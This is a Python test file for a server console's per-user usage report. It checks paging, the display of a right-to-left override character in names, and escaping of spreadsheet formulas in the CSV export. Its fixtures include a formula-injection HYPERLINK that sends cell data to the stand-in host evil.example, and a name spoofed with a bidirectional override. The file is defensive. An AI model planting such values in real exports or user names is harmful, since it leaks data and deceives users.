"""The usage view by user: paged with "N of M shown", names shown as they are, CSV safe to open.

Before, the report listed every user (10,000 users made 839 KB and 70,000 DOM nodes), a user
named ``=HYPERLINK(...)`` went into ``usage.csv`` as a formula, and a bidirectional override
in a name was rendered as one (spoofing another name).
"""

from __future__ import annotations

import csv
import io
import re
import time
from dataclasses import replace
from pathlib import Path

import aiohttp

from fairq_server.config.schema import ConsoleConfig
from fairq_sim import SimServer

from ..conftest import KEYS, FairqFactory, sim_backend
from .helpers import store_config
from .usage_rows import row, write_rows

ROOT = {"Authorization": "Bearer root-key"}
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)"]
SPOOF = "admin\u202egnp."  # reads "admin.png" where the override is obeyed


async def test_usage_by_user_is_paged_shown_as_stored_and_safe_as_csv(
    sim: SimServer, fairq_factory: FairqFactory, tmp_path: Path
) -> None:
    url_db = f"sqlite:///{tmp_path / 'fairq.db'}"
    now = time.time()
    users = [f"user-{i:03d}" for i in range(117)] + FORMULAS + [SPOOF, "x" * 400]
    # Output tokens by rank: the page's order (most first) is known.
    await write_rows(url_db, [row(now - 60, u, None, "sim", 1000 - i) for i, u in enumerate(users)])
    config = store_config(url_db, [sim_backend(sim)], keys=tuple(KEYS.values()))
    server = await fairq_factory(replace(config, console=ConsoleConfig(enabled=True)))
    url = f"http://127.0.0.1:{server.http_port}"
    async with aiohttp.ClientSession(headers=ROOT) as http:

        async def page(query: str) -> str:
            async with http.get(f"{url}/console/usage?by=user&since=24h{query}") as resp:
                assert resp.status == 200
                return await resp.text()

        first = await page("")
        body = first.split("<tbody>")[-1].split("</tbody>")[0]
        assert body.count("<tr>") == 50
        assert "50 of 123 shown (rows 1 to 50)" in first
        assert "user-000" in body and "user-050" not in body
        assert re.search(r'href="[^"]*from=50" rel="next">Next 50</a>', first)
        last = await page("&from=100")
        body = last.split("<tbody>")[-1].split("</tbody>")[0]
        assert body.count("<tr>") == 23
        assert "23 of 123 shown (rows 101 to 123)" in last and 'rel="next"' not in last
        assert re.search(r'href="[^"]*from=50" rel="prev">Previous 50</a>', last)
        # The override is shown as a mark naming it, never obeyed.
        assert "admin⟦U+202E⟧gnp." in last and "\u202e" not in last
        assert "Next" not in (await page("&from=100000")).split("shown")[-1].split("</p>")[0]
        assert "from must be a row number" in await page("&from=-1")

        async with http.get(f"{url}/console/usage.csv?by=user&since=24h") as resp:
            assert resp.status == 200
            table = list(csv.DictReader(io.StringIO(await resp.text())))
    names = [r["name"] for r in table]
    assert len(names) == len(users)  # the CSV has every row
    for formula in FORMULAS:  # a spreadsheet reads each as text, not as a formula
        assert "'" + formula in names and formula not in names
    assert SPOOF in names and "user-000" in names  # data stays data
